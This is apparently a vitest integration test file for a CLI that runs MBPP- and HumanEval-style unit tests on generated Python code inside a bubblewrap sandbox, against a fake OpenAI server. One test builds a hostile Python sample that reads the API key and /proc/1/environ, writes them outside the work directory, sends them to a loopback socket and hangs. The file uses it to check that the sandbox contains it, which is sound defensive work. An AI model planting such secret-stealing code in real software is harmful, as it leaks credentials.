import net from "node:net";
import path from "node:path";
import fs from "fs-extra";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { startFakeOpenAI, type FakeOpenAI } from "../helpers/fake-openai.js";
import { bodyOf, classifyRequest, cooperativeModel } from "../helpers/model.js";
import { makeTempDir, PROJECT_PYTHON, runCli } from "../helpers/run-cli.js";

// The wiring of issue 10's third check: items with MBPP and HumanEval tests in their native forms,
// given with `validate --dataset`, run in the sandbox by the built CLI against the fake model.

const KEY = "sk-test-validate-tests-0123456789";
let server: FakeOpenAI;
let dir: string;

const DOC = (task: string) => `"""\nInput Prompt: ${task}\nIntention: solve the task.\nFunctionality: a small function.\n"""\n`;

const MBPP = [
  {
    id: "mbpp_2",
    prompt: "Write a function to find the shared elements from the given two lists.",
    test_list: [
      "assert set(similar_elements((3, 4, 5, 6),(5, 7, 4, 10))) == set((4, 5))",
      "assert set(similar_elements((1, 2, 3, 4),(5, 4, 3, 7))) == set((3, 4))",
    ],
    test_imports: [],
    test_setup_code: "",
  },
  {
    id: "mbpp_3",
    prompt: "Write a python function to identify non-prime numbers.",
    test_list: ["assert is_not_prime(2) == False", "assert is_not_prime(10) == True", "assert is_not_prime(35) == True", "assert is_not_prime(37) == False"],
    test_imports: ["import math"],
    test_setup_code: "",
  },
];

const HUMANEVAL = [
  {
    id: "he_running_max",
    task_id: "Local/0",
    prompt: 'def running_max(numbers):\n    """Return the list of the largest value seen so far at each position."""\n',
    entry_point: "running_max",
    test: "def check(candidate):\n    assert candidate([]) == []\n    assert candidate([1, 3, 2, 5]) == [1, 3, 3, 5]\n",
  },
  {
    id: "he_count_vowels",
    task_id: "Local/1",
    prompt: 'def count_vowels(text):\n    """Return how many of the letters of text are vowels (a, e, i, o, u), in either case."""\n',
    entry_point: "count_vowels",
    test: "def check(candidate):\n    assert candidate('abc') == 1\n    assert candidate('AEIOU') == 5\n",
  },
];

const CODE: Record<string, string> = {
  mbpp_2: `${DOC(MBPP[0]!.prompt)}\n\ndef similar_elements(list1, list2):\n    return tuple(set(list1) & set(list2))\n`,
  // Wrong: calls every even number non-prime and every odd one prime.
  mbpp_3: `${DOC(MBPP[1]!.prompt)}\n\ndef is_not_prime(n):\n    return n % 2 == 0\n`,
  he_running_max: `${DOC("running maximum")}\n\ndef running_max(numbers):\n    out, best = [], None\n    for n in numbers:\n        best = n if best is None else max(best, n)\n        out.append(best)\n    return out\n`,
  // No three-section docstring, and wrong: upper-case vowels are missed.
  he_count_vowels: "def count_vowels(text):\n    return sum(1 for c in text if c in 'aeiou')\n",
};

const FIXED: Record<string, string> = {
  is_not_prime: "import math\n\n\ndef is_not_prime(n):\n    if n < 2:\n        return True\n    return any(n % i == 0 for i in range(2, math.isqrt(n) + 1))\n",
  count_vowels: "def count_vowels(text):\n    return sum(1 for c in text.lower() if c in 'aeiou')\n",
};

const env = () => ({ OPENAI_API_KEY: KEY, OPENAI_BASE_URL: server.url, CODEENHANCER_PYTHON: PROJECT_PYTHON });
const readJson = async <T>(file: string) => JSON.parse(await fs.readFile(path.join(dir, "baseline/validation", file), "utf8")) as T;

interface Row {
  id: string;
  status: string;
  attempts: number;
  initial_tests: { passed: number; total: number } | null;
  final_tests: { passed: number; total: number } | null;
}
interface Log {
  status: string;
  revisions: Array<{ status: string; functional_prompt: string | null; tests: { passed: number; failed: number; total: number; timed_out: boolean; output: string } | null }>;
}

async function writeFiles(code: Record<string, string>, dataset: unknown[]): Promise<void> {
  for (const [id, text] of Object.entries(code)) await fs.outputFile(path.join(dir, "baseline/code", `${id}.py`), text);
  await fs.outputFile(path.join(dir, "items.jsonl"), dataset.map((item) => JSON.stringify(item)).join("\n"));
}

const fixingModel = () =>
  cooperativeModel({
    fixTests: (_request, body) => {
      const name = Object.keys(FIXED).find((fn) => body.includes(`def ${fn}(`));
      return { content: `<Code>\n${name ? FIXED[name] : body}</Code>` };
    },
  });

beforeAll(async () => {
  server = await startFakeOpenAI({ responder: fixingModel() });
});
afterAll(async () => {
  await server.close();
});
beforeEach(async () => {
  server.reset();
  server.setResponder(fixingModel());
  dir = await makeTempDir();
});

describe("validate --dataset: unit tests in the sandbox", () => {
  it("passes right solutions as they are and fixes broken ones from their failing tests (MBPP and HumanEval forms)", async () => {
    await writeFiles(CODE, [...MBPP, ...HUMANEVAL]);
    const result = await runCli(["validate", "--dataset", "items.jsonl"], { cwd: dir, env: env(), timeoutMs: 120_000 });
    expect(result.exitCode, result.stderr).toBe(0);
    expect(result.stderr).toMatch(/tests passed: 2\/4 first time -> 4\/4 at the end/);

    const rows = await readJson<Row[]>("results.json");
    expect(rows.map((r) => [r.id, r.status, r.initial_tests, r.final_tests])).toEqual([
      ["he_count_vowels", "passed", { passed: 0, total: 1 }, { passed: 1, total: 1 }],
      ["he_running_max", "passed", { passed: 1, total: 1 }, { passed: 1, total: 1 }],
      ["mbpp_2", "passed", { passed: 2, total: 2 }, { passed: 2, total: 2 }],
      ["mbpp_3", "passed", { passed: 2, total: 4 }, { passed: 4, total: 4 }],
    ]);

    // Right solutions: passed on their tests alone, no model call about them.
    const right = await readJson<Log>("mbpp_2_validation_results.json");
    expect(right.revisions.map((r) => r.status)).toEqual(["Tests-Passed"]);
    const calls = server.chatRequests();
    expect(calls.map(classifyRequest).every((kind) => kind === "fix-tests")).toBe(true);
    expect(calls.some((request) => bodyOf(request).includes("similar_elements"))).toBe(false);

    // Broken: attempt 1 shows the failing tests, the model gets them, attempt 2 passes them all.
    const broken = await readJson<Log>("mbpp_3_validation_results.json");
    expect(broken.revisions.map((r) => r.status)).toEqual(["Test-Fixed", "Tests-Passed"]);
    expect(broken.revisions[0]?.tests).toMatchObject({ passed: 2, failed: 2, total: 4, timed_out: false });
    expect(broken.revisions[0]?.tests?.output).toContain("is_not_prime(2)");
    expect(broken.revisions[0]?.functional_prompt).toContain("is_not_prime(35)");
    expect(await fs.readFile(path.join(dir, "baseline/validation/Final_code/mbpp_3.py"), "utf8")).toContain("math.isqrt");

    // A file without a docstring is held to the dataset's prompt.
    const bare = await readJson<Log>("he_count_vowels_validation_results.json");
    expect(bare.revisions[0]?.functional_prompt).toContain("in either case");

    // A re-run resumes: nothing is asked or tested again.
    server.reset();
    const again = await runCli(["validate", "--dataset", "items.jsonl", "--jsonl"], { cwd: dir, env: env(), timeoutMs: 120_000 });
    expect(again.exitCode, again.stderr).toBe(0);
    expect(server.chatRequests()).toHaveLength(0);
    expect(again.stdout.trim().split("\n").map((line) => (JSON.parse(line) as { skipped?: boolean }).skipped)).toEqual([true, true, true, true]);
  });

  it("validates again a file that was validated without tests once its tests are given", async () => {
    await writeFiles({ mbpp_3: CODE.mbpp_3! }, [MBPP[1]]);
    const untested = await runCli(["validate", "--analyzers", "pylint,bandit"], { cwd: dir, env: env() });
    expect(untested.exitCode, untested.stderr).toBe(0);
    expect((await readJson<Row[]>("results.json"))[0]).toMatchObject({ status: "passed", initial_tests: null });

    const tested = await runCli(["validate", "--analyzers", "pylint,bandit", "--dataset", "items.jsonl"], { cwd: dir, env: env(), timeoutMs: 120_000 });
    expect(tested.exitCode, tested.stderr).toBe(0);
    expect((await readJson<Row[]>("results.json"))[0]).toMatchObject({ status: "passed", initial_tests: { passed: 2, total: 4 }, final_tests: { passed: 4, total: 4 } });
  });

  it("contains a hostile file: no write outside, no loopback connection, no key anywhere, and the run finishes", async () => {
    const connections: string[] = [];
    const listener = net.createServer((socket) => {
      connections.push("connected");
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    const port = (listener.address() as net.AddressInfo).port;
    const marker = path.join(dir, "escaped.txt");
    const hostile = [
      DOC("steal and hang"),
      "import os, socket, time",
      "",
      "secret = os.environ.get('OPENAI_API_KEY', '')",
      "try:",
      "    secret += open('/proc/1/environ').read()",
      "except OSError:",
      "    pass",
      "for target in (" + JSON.stringify(marker) + ", '/tmp/codeenhancer-escaped.txt'):",
      "    try:",
      "        with open(target, 'w') as f:",
      "            f.write(secret)",
      "    except OSError:",
      "        pass",
      "try:",
      `    socket.create_connection(('127.0.0.1', ${port}), timeout=1).sendall(secret.encode())`,
      "except OSError:",
      "    pass",
      "print(secret)",
      "time.sleep(3600)",
      "",
      "",
      "def similar_elements(a, b):",
      "    return tuple(set(a) & set(b))",
      "",
    ].join("\n");
    await writeFiles({ mbpp_2: hostile }, [MBPP[0]]);
    try {
      const result = await runCli(["validate", "--dataset", "items.jsonl", "--test-timeout", "2", "--max-attempts", "1"], { cwd: dir, env: env(), timeoutMs: 120_000 });
      expect(result.exitCode, result.stderr).toBe(0);
      const rows = await readJson<Row[]>("results.json");
      expect(rows[0]).toMatchObject({ id: "mbpp_2", status: "unresolved", final_tests: { passed: 0, total: 2 } });
      const log = await readJson<Log>("mbpp_2_validation_results.json");
      expect(log.revisions[0]?.tests?.timed_out).toBe(true);
      expect(result.stdout + result.stderr).not.toContain(KEY);
    } finally {
      await new Promise<void>((resolve) => listener.close(() => resolve()));
    }
    expect(await fs.pathExists(marker)).toBe(false);
    expect(connections).toEqual([]);
    for (const file of await listFiles(path.join(dir, "baseline"))) {
      expect(await fs.readFile(file, "utf8"), file).not.toContain(KEY);
    }
  });

  it("refuses malformed test fields before any work, naming the id and the field (exit 2)", async () => {
    await writeFiles(CODE, [{ ...HUMANEVAL[0], entry_point: undefined }]);
    const result = await runCli(["validate", "--dataset", "items.jsonl"], { cwd: dir, env: env() });
    expect(result.exitCode).toBe(2);
    expect(result.stderr.trim().split("\n")).toHaveLength(1);
    expect(result.stderr).toMatch(/he_running_max.*entry_point/);
    expect(server.chatRequests()).toHaveLength(0);
    expect(await fs.pathExists(path.join(dir, "baseline/validation"))).toBe(false);
  });

  it("says in one line that the sandbox is missing (exit 3), and --no-tests goes on without it", async () => {
    await writeFiles({ mbpp_2: CODE.mbpp_2! }, [MBPP[0]]);
    // Nothing on PATH: no bwrap (and no semgrep, hence the analyzers named).
    const noBwrap = { ...env(), PATH: path.join(dir, "no-bin") };
    const refused = await runCli(["validate", "--dataset", "items.jsonl", "--analyzers", "pylint,bandit"], { cwd: dir, env: noBwrap });
    expect(refused.exitCode).toBe(3);
    expect(refused.stderr).toMatch(/bubblewrap|bwrap/);
    expect(refused.stderr).toMatch(/--no-tests/);
    expect(refused.stderr.trim().split("\n").length).toBeLessThanOrEqual(2);

    const skipped = await runCli(["validate", "--dataset", "items.jsonl", "--no-tests", "--analyzers", "pylint,bandit"], { cwd: dir, env: noBwrap });
    expect(skipped.exitCode, skipped.stderr).toBe(0);
    expect((await readJson<Row[]>("results.json"))[0]).toMatchObject({ status: "passed", initial_tests: null });
    expect(server.chatRequests().map(classifyRequest)).toEqual(["judge"]);
  });
});

async function listFiles(root: string): Promise<string[]> {
  const entries = await fs.readdir(root, { withFileTypes: true });
  const nested = await Promise.all(entries.map((entry) => (entry.isDirectory() ? listFiles(path.join(root, entry.name)) : [path.join(root, entry.name)])));
  return nested.flat();
}
